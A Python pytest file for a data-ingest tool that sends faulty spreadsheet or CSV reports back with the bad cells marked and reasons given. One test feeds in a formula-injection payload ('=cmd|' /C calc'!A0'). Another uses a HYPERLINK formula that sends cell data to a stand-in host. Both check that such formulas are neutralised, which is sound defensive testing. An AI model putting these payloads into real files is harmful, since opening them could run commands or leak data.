"""退回表: the sender gets the same file back, the bad cells marked, the reason beside each row, a summary in front."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import bad_files as make
import corpus
import openpyxl
import pytest
from openpyxl.styles import Font

import ingest
from data.rulebook import RULES
from data.settings import ROOT, settings
from ingest.sendback import REASONS

BAD = [
    corpus.TITLE, corpus.HEAD, corpus.flood(16), corpus.flood(17, 饮水困难人数="约120", 受涝面积="-1"),
    corpus.flood(18, "杭州市"), ["合计", "", 2],
]  # fmt: skip


@pytest.fixture(autouse=True)
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    yield make.use_store(monkeypatch, tmp_path / "store")
    settings.cache_clear()


def returned(path: Path, table: str = corpus.FLOOD, mapping: Path | None = None) -> Any:
    out = path.with_name("退回.xlsx")
    ingest.returns(path, table, mapping, out)
    return openpyxl.load_workbook(out)


def marks(sheet: Any) -> dict[str, str]:
    """The comment of every marked cell, by its place."""
    return {cell.coordinate: cell.comment.text for row in sheet.iter_rows() for cell in row if cell.comment}


def reasons(sheet: Any, header_row: int) -> dict[int, str]:
    """The text beside each row."""
    (column,) = [cell.column for cell in sheet[header_row] if cell.value == REASONS]
    rows = range(header_row + 1, sheet.max_row + 1)
    return {row: text for row in rows if (text := sheet.cell(row, column).value)}


def test_a_workbook_keeps_its_look_and_its_bad_cells_are_marked(tmp_path: Path) -> None:
    path = corpus.book({"日报": BAD}, merged=["A1:I1"])(tmp_path)
    own = openpyxl.load_workbook(path)
    own["日报"]["B3"].font = Font(italic=True, name="楷体")
    own["日报"].column_dimensions["B"].width = 33
    own.save(path)
    book = returned(path)
    sheet = book["日报"]
    assert book.sheetnames == ["退回说明", "日报"]
    assert (sheet["B3"].font.name, sheet["B3"].font.italic, sheet.column_dimensions["B"].width) == ("楷体", True, 33)
    assert [str(block) for block in sheet.merged_cells.ranges] == ["A1:I1"]
    found = marks(sheet)
    assert set(found) == {"C4", "E4", "A5"}
    assert found["E4"].startswith("不是数字：")
    assert found["C4"].startswith("超出范围：")
    assert all(sheet[place].fill.fill_type == "solid" for place in found)
    assert sheet["C3"].fill.fill_type is None
    beside = reasons(sheet, 2)
    assert set(beside) == {4, 5}
    assert "约120" in beside[4]
    assert "不应" in beside[4] or "不在" in beside[4]
    assert "杭州市" in beside[5]


def test_the_summary_counts_each_rule_and_says_what_to_do(tmp_path: Path) -> None:
    sheet = returned(corpus.book({"日报": BAD})(tmp_path))["退回说明"]
    lines = {row[0]: row[1:] for row in sheet.iter_rows(values_only=True) if row[0]}
    assert lines["合格"][0] == "1 行"
    assert lines["退回"][0].startswith("2 行：")
    assert lines["超出范围"][:2] == (1, RULES["out_of_range"].remedy)  # a row counts under its first fault
    assert lines["地点不认识"][:2] == (1, RULES["bad_place_code"].remedy)
    assert lines["合计行"][0] == 1


def test_a_csv_comes_back_as_a_workbook_with_its_rows_where_they_were(tmp_path: Path) -> None:
    path = corpus.text([*BAD[:5], ["341002", "2026-11-19"], corpus.flood(20)])(tmp_path)
    sheet = returned(path)["数据"]
    assert sheet["A1"].value == corpus.TITLE[0]
    assert [cell.value for cell in sheet[2]][:9] == list(corpus.HEAD)
    assert (sheet["B3"].value, sheet["E4"].value, sheet["B7"].value) == ("2026-11-16", "约120", "2026-11-20")
    assert sheet["A6"].value == "341002,2026-11-19"  # a row that could not be cut stands in one cell
    assert set(marks(sheet)) == {"C4", "E4", "A5", "A6"}
    assert set(reasons(sheet, 2)) == {4, 5, 6}


def test_an_old_workbook_comes_back_as_a_new_one(tmp_path: Path) -> None:
    sheet = returned(corpus.raw(corpus.XLS, "旧报表.xls")(tmp_path))["灾情"]
    assert sheet["E5"].value == "约2"
    assert set(marks(sheet)) == {"E5"}


def test_a_fault_below_a_district_is_marked_there(tmp_path: Path) -> None:
    path = corpus.text([corpus.BIRTHS, ["2026年9月", 1, 2, 3, "约4", 5, 6, 7, 28]])(tmp_path)
    book = returned(path, corpus.BIRTH, make.write_mapping(tmp_path / "映射.toml", corpus.BY_COUNT))
    assert set(marks(book["数据"])) == {"E2"}


def test_each_sheet_has_its_own_faults(tmp_path: Path) -> None:
    path = corpus.book({
        "初报": [corpus.HEAD, corpus.flood(16, 应转移="多")],
        "续报": [corpus.HEAD, corpus.flood(17), corpus.flood(17, 受旱面积=9)],
    })(tmp_path)  # fmt: skip
    book = returned(path)
    assert set(marks(book["初报"])) == {"G2"}
    assert set(marks(book["续报"])) == {"A2", "B2"}  # both columns of the key


def test_a_merged_cell_is_marked_where_it_begins(tmp_path: Path) -> None:
    rows = [corpus.HEAD, corpus.flood(16, "杭州市"), corpus.flood(17, ""), corpus.flood(18)]
    sheet = returned(corpus.book({"日报": rows}, merged=["A2:A3"])(tmp_path))["日报"]
    assert set(marks(sheet)) == {"A2"}
    assert set(reasons(sheet, 1)) == {2, 3}


def test_what_could_run_as_a_formula_is_text(tmp_path: Path) -> None:
    path = corpus.orders(corpus.order(1, title="=cmd|' /C calc'!A0", content="@SUM(A1)"), corpus.order(2))(tmp_path)
    sheet = returned(path, corpus.ORDER)["数据"]
    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    texts = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith(("=", "@"))]
    assert len(texts) == 2
    assert all(cell.quotePrefix for cell in texts)


def test_formulas_of_the_sender_stay_if_they_only_count_and_become_text_if_they_reach_outward(tmp_path: Path) -> None:
    path = corpus.book({"日报": BAD[1:5]})(tmp_path)
    own = openpyxl.load_workbook(path)
    own["日报"]["K1"], own["日报"]["K2"] = "=SUM(C2:C3)", '=HYPERLINK("http://x.example/?"&A2,"看")'
    own["日报"]["K3"] = "=[1]表!A1"
    own.save(path)
    sheet = returned(path)["日报"]
    assert [sheet[place].data_type for place in ("K1", "K2", "K3")] == ["f", "s", "s"]


def test_a_file_that_is_refused_whole_comes_back_with_the_reason(tmp_path: Path) -> None:
    book = returned(corpus.text([corpus.HEAD[:8], corpus.flood(16)[:8]])(tmp_path))
    lines = {row[0]: row[1] for row in book["退回说明"].iter_rows(values_only=True) if row[0]}
    assert "缺少列：loss_wan(直接经济损失)" in lines["整份未收"]
    assert book["数据"]["A1"].value == "所在地代码"


def test_an_unreadable_file_comes_back_as_the_reason_alone(tmp_path: Path) -> None:
    book = returned(corpus.raw(b"PK\x03\x04 broken", "报表.xlsx")(tmp_path))
    assert book.sheetnames == ["退回说明"]


def test_corrected_and_sent_in_again_it_is_imported(tmp_path: Path) -> None:
    book = returned(corpus.book({"日报": BAD})(tmp_path))
    sheet = book["日报"]
    sheet["C4"], sheet["E4"], sheet["A5"] = 1, 120, "341003"
    book.save(tmp_path / "改好.xlsx")
    result = ingest.load(corpus.FLOOD, [tmp_path / "改好.xlsx"], now=make.NOW)
    assert (result.refused, result.accepted, result.quarantined) == (None, 3, {})


def test_nothing_is_stored(tmp_path: Path, store: Path) -> None:
    returned(corpus.text(BAD)(tmp_path))
    assert make.contents(store) == {}


def test_from_the_command_line_it_is_written_beside_the_import(tmp_path: Path, store: Path) -> None:
    path, out = corpus.text(BAD)(tmp_path), tmp_path / "退回.xlsx"
    command = [sys.executable, str(ROOT / "cockpit.py"), "import", corpus.FLOOD, str(path)]
    done = subprocess.run(
        [*command, "--dry-run", "--json", "--returns", str(out)],
        capture_output=True,
        text=True,
        env={"COCKPIT_STORE": str(store), "PATH": ""},
        check=True,
    )
    body = json.loads(done.stdout)
    assert (body["accepted"], body["skipped"]) == (1, {"total_row": 1})
    assert set(marks(openpyxl.load_workbook(out)["数据"])) == {"C4", "E4", "A5"}


def test_the_clerks_manual_lists_every_rule_with_its_remedy() -> None:
    manual = (ROOT / "docs" / "intake.md").read_text(encoding="utf-8")
    assert [f"| {rule.name} | `{name}` | {rule.remedy} |" for name, rule in RULES.items()] == [
        line for line in manual.splitlines() if line.startswith("| ") and "| `" in line
    ]
